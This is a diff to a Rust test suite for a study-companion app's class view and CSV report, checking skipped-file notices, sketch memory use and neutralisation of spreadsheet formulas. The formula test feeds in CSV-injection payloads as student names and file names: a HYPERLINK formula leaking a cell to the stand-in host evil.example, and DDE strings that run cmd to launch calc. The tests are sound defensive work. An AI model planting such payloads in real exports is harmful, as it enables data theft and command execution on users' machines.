@@ -208,6 +208,7 @@ fn the_class_view_sorts_filters_and_opens_a_student() {
     harness.get_by_label("班级（3 名学生）");
     harness.get_by_label_contains("无法读取 broken.scprogress");
     harness.get_by_label_contains("忽略了 1 个较旧的");
+    harness.get_by_label_contains("跳过了 1 个不是进度文件的文件");
 
     let names =
         |harness: &egui_kittest::Harness<'_, study_companion::ui::StudyApp>| -> Vec<String> {
@@ -460,4 +461,293 @@ fn export_all_feedback_survives_a_long_name_and_a_failed_file() {
     assert!(notice.text.contains("已导出 2 个反馈文件"), "{notice:?}");
     assert!(notice.text.contains("1 个未能写出"), "{notice:?}");
     assert!(!notice.text.contains("安娜"), "{notice:?}");
+}
+
+// ------------------------------------------------- the report through `cli::run`
+
+/// Runs `study-companion report` in-process; returns (success, stdout, stderr).
+fn run_report(
+    paths: &[&Path],
+    format: study_companion::cli::ReportFormat,
+    table: study_companion::report::Table,
+) -> (bool, String, String) {
+    let command = study_companion::cli::Command::Report {
+        paths: paths.iter().map(|path| path.to_path_buf()).collect(),
+        format,
+        table,
+        output: None,
+    };
+    let (mut out, mut err) = (Vec::new(), Vec::new());
+    let code = study_companion::cli::run(
+        &command,
+        None,
+        study_companion::embedded::curriculum(),
+        &mut out,
+        &mut err,
+    );
+    (
+        code == std::process::ExitCode::SUCCESS,
+        String::from_utf8(out).unwrap(),
+        String::from_utf8(err).unwrap(),
+    )
+}
+
+/// The cells of a CSV report (without its byte-order mark), header first.
+fn csv_cells(text: &str) -> Vec<Vec<String>> {
+    let text = text.strip_prefix('\u{feff}').unwrap();
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// Names, ids and file names that Excel or LibreOffice would run as formulas (OWASP's list:
+/// `= + - @`, tab, carriage return), each with the cell the report must write for it.
+#[test]
+fn the_csv_report_neutralises_formulas_in_names_ids_and_file_names() {
+    let dir = tempfile::tempdir().unwrap();
+    // (file name, student id, name as written in the file, the name cell, the file cell)
+    let cases: &[(&str, &str, &str, &str, &str)] = &[
+        (
+            "=HYPERLINK.scprogress",
+            "s-1",
+            "=HYPERLINK(\"https://evil.example/?\"&A1,\"点我\")",
+            "'=HYPERLINK(\"https://evil.example/?\"&A1,\"点我\")",
+            "'=HYPERLINK.scprogress",
+        ),
+        (
+            "+1+cmd.scprogress",
+            "s-2",
+            "+1+cmd|' /C calc'!A0",
+            "'+1+cmd|' /C calc'!A0",
+            "'+1+cmd.scprogress",
+        ),
+        (
+            "-2+3.scprogress",
+            "-3",
+            "-2+3+cmd|' /C calc'!A0",
+            "'-2+3+cmd|' /C calc'!A0",
+            "'-2+3.scprogress",
+        ),
+        (
+            "@SUM.scprogress",
+            "s-4",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "'@SUM(1+1)*cmd|' /C calc'!A0",
+            "'@SUM.scprogress",
+        ),
+        // The reader removes control characters from names, so the tab goes and the
+        // formula after it must still be caught.
+        (
+            "\t=1+1.scprogress",
+            "s-5",
+            "\t=1+1",
+            "'=1+1",
+            "'\t=1+1.scprogress",
+        ),
+        (
+            "\r=1+1.scprogress",
+            "s-6",
+            "\r=2+2",
+            "'=2+2",
+            "'\r=1+1.scprogress",
+        ),
+        // Importers that trim spaces would see `=` first.
+        (
+            " =3+3.scprogress",
+            "s-7",
+            " =3+3",
+            "' =3+3",
+            "' =3+3.scprogress",
+        ),
+        ("ok.scprogress", "s-8", "张三", "张三", "ok.scprogress"),
+    ];
+    for (file_name, id, name, _, _) in cases {
+        let file = student(id, name, &["python.software"], "2026-11-20T08:00:00Z");
+        std::fs::write(
+            dir.path().join(file_name),
+            format::to_string(&file).unwrap(),
+        )
+        .unwrap();
+    }
+
+    let (ok, out, err) = run_report(
+        &[dir.path()],
+        study_companion::cli::ReportFormat::Csv,
+        study_companion::report::Table::Chapters,
+    );
+    assert!(ok, "{err}");
+    let cells = csv_cells(&out);
+    let header = &cells[0];
+    let column = |title: &str| header.iter().position(|cell| cell == title).unwrap();
+    let (name, id, total, file) = (
+        column("姓名"),
+        column("学生ID"),
+        column("总进度 (%)"),
+        column("文件"),
+    );
+    assert_eq!(cells.len(), 1 + cases.len(), "{out}");
+    for (_, student_id, _, name_cell, file_cell) in cases {
+        let row = cells
+            .iter()
+            .find(|row| row[id].trim_start_matches('\'') == *student_id)
+            .unwrap_or_else(|| panic!("no row for {student_id}: {out}"));
+        assert_eq!(row[name], *name_cell, "{out}");
+        assert_eq!(row[file], *file_cell, "{out}");
+        assert_eq!(row[total], "4", "numbers stay numbers");
+    }
+    let minus = cells
+        .iter()
+        .find(|row| row[name].starts_with("'-2"))
+        .unwrap();
+    assert_eq!(
+        minus[id], "'-3",
+        "an id starting with `-` is neutralised too"
+    );
+    for row in &cells {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} would be a formula"
+            );
+        }
+    }
+
+    let (ok, out, err) = run_report(
+        &[dir.path()],
+        study_companion::cli::ReportFormat::Csv,
+        study_companion::report::Table::Items,
+    );
+    assert!(ok, "{err}");
+    let cells = csv_cells(&out);
+    assert!(
+        cells.iter().any(|row| row[0] == "'=1+1" && row[1] == "s-5"),
+        "{out}"
+    );
+    for row in &cells {
+        for cell in row {
+            assert!(
+                !cell.trim_start().starts_with(['=', '+', '-', '@']),
+                "{cell:?} would be a formula"
+            );
+        }
+    }
+}
+
+/// Files of other kinds in a class folder are not read, and the report says so (hidden files,
+/// such as `.DS_Store`, and sub-folders are not counted).
+#[test]
+fn the_report_says_how_many_files_of_a_folder_it_skipped() {
+    let dir = tempfile::tempdir().unwrap();
+    class_folder(dir.path());
+    std::fs::write(dir.path().join("wangwu.json"), "{}").unwrap();
+    std::fs::write(dir.path().join("zhaoliu.scprogress.zip"), "PK").unwrap();
+    std::fs::write(dir.path().join(".DS_Store"), "").unwrap();
+    std::fs::create_dir(dir.path().join("old")).unwrap();
+
+    let (ok, _, err) = run_report(
+        &[dir.path()],
+        study_companion::cli::ReportFormat::Csv,
+        study_companion::report::Table::Chapters,
+    );
+    assert!(ok, "{err}");
+    let expected = format!(
+        "{}: note: 3 file(s) skipped, not .scprogress or .ron: notes.txt, wangwu.json, zhaoliu.scprogress.zip\n",
+        dir.path().display()
+    );
+    assert!(err.contains(&expected), "{err}");
+
+    // A folder with nothing else to skip says nothing about skipping.
+    let clean = tempfile::tempdir().unwrap();
+    std::fs::copy(
+        dir.path().join("lisi.scprogress"),
+        clean.path().join("lisi.scprogress"),
+    )
+    .unwrap();
+    let (ok, _, err) = run_report(
+        &[clean.path()],
+        study_companion::cli::ReportFormat::Md,
+        study_companion::report::Table::Chapters,
+    );
+    assert!(ok, "{err}");
+    assert!(!err.contains("skipped"), "{err}");
+
+    let class = study_companion::report::load_class(
+        study_companion::embedded::curriculum(),
+        &[dir.path().to_owned()],
+    );
+    assert_eq!(class.skipped.len(), 1);
+    assert_eq!(class.skipped[0].folder, dir.path());
+    assert_eq!(class.skipped[0].files.len(), 3);
+}
+
+/// A sketch of `strokes` strokes of `points` points each, and a label.
+fn big_sketch(strokes: usize, points: usize) -> study_companion::drawing::Sketch {
+    use study_companion::drawing::{Ink, Label, Sketch, Stroke};
+    Sketch {
+        strokes: (0..strokes)
+            .map(|s| Stroke {
+                color: Ink::Blue,
+                width: 3.0,
+                points: (0..points)
+                    .map(|p| [(p % 900) as f32 + 0.25, (s % 1200) as f32 + 0.5])
+                    .collect(),
+            })
+            .collect(),
+        labels: vec![Label {
+            pos: [10.0, 20.0],
+            text: "数据 → 模型".to_owned(),
+            color: Ink::Black,
+            size: 24.0,
+        }],
+        ..Sketch::default()
+    }
+}
+
+/// The class and the report need no strokes: they keep none (a class of 20 strokes-heavy
+/// files used to hold them all), but everything they show is kept, and opening the student
+/// reads the file again with every stroke.
+#[test]
+fn the_class_keeps_no_sketch_strokes_but_everything_it_shows() {
+    use study_companion::drawing::{Drawing, render};
+    let dir = tempfile::tempdir().unwrap();
+    let task = ItemId("what-is-dl.workflow-drawing".to_owned());
+    let sketch = big_sketch(50, 400);
+    let mut file = student(
+        "s-draw",
+        "画图的同学",
+        &["python.software"],
+        "2026-11-20T08:00:00Z",
+    );
+    file.progress.drawings.insert(
+        task.clone(),
+        Drawing {
+            image: Some(render::render_png(&sketch).unwrap()),
+            sketch: Some(sketch.clone()),
+            updated: Some(at("2026-11-25T09:00:00Z")),
+        },
+    );
+    let path = dir.path().join("draw.scprogress");
+    std::fs::write(&path, format::to_string(&file).unwrap()).unwrap();
+
+    let class = study_companion::report::load_class(
+        study_companion::embedded::curriculum(),
+        &[dir.path().to_owned()],
+    );
+    assert!(class.problems.is_empty(), "{:?}", class.problems);
+    let row = &class.students[0];
+    assert!(row.has_drawing);
+    assert_eq!(row.last_activity, Some(at("2026-11-25T09:00:00Z")));
+    let drawing = &row.file.progress.drawings[&task];
+    assert_eq!(drawing.updated, Some(at("2026-11-25T09:00:00Z")));
+    assert_eq!(drawing.image, None, "no pixels in the class");
+    // (Not `assert_eq!`: a failure would print 20,000 points.)
+    assert!(drawing.sketch.is_none(), "no strokes in the class");
+
+    // What a mentor's click reads (`Action::ViewStudent`): the whole file.
+    let full = format::read_path(&path).unwrap();
+    assert!(full.file.progress.drawings[&task].sketch == Some(sketch));
+    assert!(full.file.progress.drawings[&task].image.is_some());
 }
